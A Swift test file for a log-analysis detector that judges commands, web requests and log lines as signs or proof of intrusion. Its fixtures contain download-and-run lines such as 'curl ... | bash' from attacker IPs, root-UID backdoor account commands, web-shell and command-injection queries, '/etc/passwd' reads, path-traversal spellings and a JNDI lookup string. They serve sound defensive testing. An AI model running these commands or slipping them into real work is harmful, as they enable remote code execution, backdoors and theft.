import Model
import Testing

@testable import Inquiry

@Suite struct `Commands in logs` {
    @Test(arguments: [
        "curl -fsSL http://198.51.100.9/u.sh | bash", "useradd -o -u 0 -M sysadm", "usermod --uid 0 lp", "/dev/shm/.k -d",
        "wget -q http://198.51.100.9/x -O /tmp/.x/kinsing",
    ])
    func `that nobody honest gives prove a break-in`(command: String) {
        let traits: Set<Model.Trait> =
            command.contains("| bash") ? [.downloadAndRun] : command.hasPrefix("/dev") ? [.runsFromTemporaryFolder] : []
        #expect(CommandJudgement.gravity(RawText(command), traits, isJob: false, isService: false) == .proof)
    }

    @Test func `of an installer that has a name are a sign where a person gives them, and proof where a job does`() {
        let command: RawText = "curl -fsSL https://get.docker.com | sh"
        #expect(CommandJudgement.gravity(command, [.downloadAndRun], isJob: false, isService: false) == .sign)
        #expect(CommandJudgement.gravity(command, [.downloadAndRun], isJob: true, isService: false) == .proof)
    }

    @Test(arguments: ["useradd -u 1000 tanaka", "apt update", "sh /tmp/install-agent.sh", "useradd -u 01 x"])
    func `of every day say nothing`(command: String) {
        #expect(CommandJudgement.gravity(RawText(command), [], isJob: false, isService: false) == nil)
    }
}

@Suite struct `Queries of requests` {
    @Test(arguments: [
        "/x.php?cmd=id", "/x.php?c=uname+-a", "/a.jsp?i=ls%20-la", "/z.jsp?comment=wget+http://198.51.100.9/l", "/p.php?q=cat+/etc/passwd",
        "/s.pl?configdir=%20%7c%20id%20%7c%20", "/s.pl?dir=%7Cecho%20%3Bcd%20%2Ftmp%3Bwget%20203.0.113.9%2Fx%3B",
        "/api/x?host=1.2.3.4;cat%20/etc/passwd",
        "/ping?host=$(id)", "/view?page=`uname`",
    ])
    func `that are commands of a shell are known as such`(target: String) {
        #expect(ShellQuery.isCommand(RawText(target)))
    }

    @Test func `tell a web shell's command from one that breaks out of what a page does`() {
        #expect(ShellQuery.kind("/x.php?cmd=cd+/tmp;wget+http://198.51.100.9/l") == .command)
        #expect(ShellQuery.kind("/ping.cgi?host=127.0.0.1;id") == .injected)
        #expect(ShellQuery.kind("/ping.cgi?host=%7Cuname%20-a") == .injected)
    }

    @Test(arguments: [
        "/list.php?sort=id", "/search.php?q=python+tutorial", "/pets.php?kind=cat", "/a.php?lang=sh", "/forum.php?cmd=list", "/x.php",
        "/search?q=curl", "/search?q=wget+options", "/c.php?cmd=ls&target=l1_Lw", "/q?title=Salt%20%26%20cat", "/q?t=a%3B+dir+en+grey",
    ])
    func `of honest sites are not`(target: String) {
        #expect(!ShellQuery.isCommand(RawText(target)))
    }
}

@Suite struct `Requests by what they ask for` {
    private func isCommand(_ target: String) -> Bool {
        let bytes = Array(target.utf8)
        return DebugConsole.isCommand(bytes.span)
    }

    private func isCopy(_ target: String) -> Bool {
        let bytes = Array(target.utf8)
        return DatabaseCopy.isOne(bytes.span)
    }

    private func attack(_ target: String) -> AttackKind? {
        let bytes = Array(target.utf8)
        return AttackKind.of(bytes.span)
    }

    @Test func `give a debug console a command, or fetch its pictures`() {
        #expect(isCommand("/items/1?__debugger__=yes&cmd=print(1)&frm=7&s=abc"))
        #expect(!isCommand("/items/1?__debugger__=yes&cmd=resource&f=style.css"))
        #expect(!isCommand("/items/1?__debugger__=yes&cmd=pinauth&pin=1&s=abc"))
        #expect(!isCommand("/items/1"))
        #expect(!isCommand(""))
    }

    @Test(arguments: ["/store/backup_1.sql.gz", "/db.sql", "/a/b.sqlite3?x=1", "/dump.sql.zip"])
    func `carry a database away`(target: String) { #expect(isCopy(target)) }

    @Test(arguments: ["/sql", "/help/sql.html", "/a.zip", "/x.sql.html", ".sql"])
    func `fetch what is called nearly like one`(target: String) { #expect(!isCopy(target)) }

    @Test(arguments: [
        "/setup/setup-s/%u002e%u002e/%u002e%u002e/log.jsp", "/manager/..;/host-manager/html", "/hax?jsp=/app/rest/server;.jsp",
    ])
    func `walk out of a folder by other spellings`(target: String) { #expect(attack(target) == .traversal) }

    @Test func `ask for files with passwords, which is not grave by itself`() {
        #expect(attack("/.git/config") == .secret)
        #expect(attack("/.env") == .secret)
        #expect(!AttackKind.secret.isGrave)
    }
}

@Suite struct `Addresses in messages` {
    @Test func `of what is to be fetched are not the sender's`() {
        #expect(NetworkMark.firstNumber(in: "chat: ${jndi:ldap://203.0.113.9:1389/a}") == nil)
        #expect(NetworkMark.firstNumber(in: "blockx[/198.51.100.7:51022] logged in") == "198.51.100.7")
    }
}

@Suite struct `Words of records` {
    private func rule(_ text: String, isServers: Bool = false) -> TelltaleRule? {
        let bytes = Array(text.utf8)
        return TelltaleWords.shared.rule(bytes.span, isServers: isServers)?.rule
    }

    @Test func `of a program that was fetched tell only in a server's log of errors`() {
        let line = "2014-09-27 13:01:10 (210 KB/s) - '/tmp/ha.pl' saved [25211/25211]"
        let inServer = rule(line, isServers: true)
        let onTerminal = rule(line)
        #expect(inServer?.kind == .output)
        #expect(inServer?.gravity == .proof)
        #expect(onTerminal == nil)
    }

    @Test func `of a module that Redis loaded prove a break-in unless it lies where modules belong`() {
        let planted = rule("1102:M 15 Aug 2020 18:10:05.101 * Module 'system' loaded from ./exp.so")
        let honest = rule("1102:M 15 Aug 2020 18:10:05.101 * Module 'search' loaded from /usr/lib/redis/modules/redisearch.so")
        #expect(planted?.gravity == .proof)
        #expect(honest == nil)
    }

    @Test func `of a refused attack are a sign`() {
        let line = rule("1102:M # Possible SECURITY ATTACK detected. It looks like somebody is sending POST or Host: commands to Redis.")
        #expect(line?.gravity == .sign)
    }

    @Test func `stand in one table each, within the 64 that a mask holds`() {
        for (number, entry) in TelltaleRule.rules.enumerated() {
            let text = (entry.all + entry.any.prefix(1)).joined(separator: " ")
            let bytes = Array(text.utf8)
            let found = TelltaleWords.shared.rule(bytes.span, isServers: true)
            #expect(found != nil, "rule \(number): \(text)")
        }
    }
}

@Suite struct `Orders that a service writes down` {
    @Test(
        arguments: [
            (
                "Command to launch container container_1_01 : wget -q -O - http://203.0.113.6/c.sh | sh", "Command to launch container ",
                "wget -q -O - http://203.0.113.6/c.sh | sh"
            ),
            (
                "[INFO] Executing command '(curl -s 203.0.113.6/a.sh)|sh' in directory '/root'", "Executing command '",
                "(curl -s 203.0.113.6/a.sh)|sh"
            ),
            ("Check 'a' script 'curl -s 203.0.113.6/b | sh' output: ", " script '", "curl -s 203.0.113.6/b | sh"),
            ("Executing command 'x", "Executing command '", nil),
        ] as [(String, String, String?)])
    func `are read behind its words`(record: String, words: String, order: String?) {
        let bytes = Array(record.utf8)
        let found = ServiceOrder.command(in: bytes.span, behind: words)
        #expect(found == order.map { RawText($0) })
    }

    @Test func `fetch from a number with or without a scheme`() {
        #expect(CommandJudgement.fetchesFromNumber("curl -s 203.0.113.6/a.sh"))
        #expect(CommandJudgement.fetchesFromNumber("(wget -qO- http://203.0.113.6/a)|sh"))
        #expect(!CommandJudgement.fetchesFromNumber("curl -s https://get.docker.com/v1.2.3.4/x"))
        #expect(!CommandJudgement.fetchesFromNumber("tar xf 1.2.3.4/x"))
    }
}

@Suite struct `Logs of containers` {
    @Test func `are told with the name that the engine gave`() {
        let number = RawText(String(repeating: "4f1c", count: 16))
        let path = "/var/lib/docker/containers/" + number + "/" + number + "-json.log"
        #expect(ContainerName.told(path, [number: "shop"]) == path + " (shop)")
        #expect(ContainerName.told(path, [:]) == path)
        #expect(ContainerName.told("/var/log/syslog", [number: "shop"]) == "/var/log/syslog")
    }
}
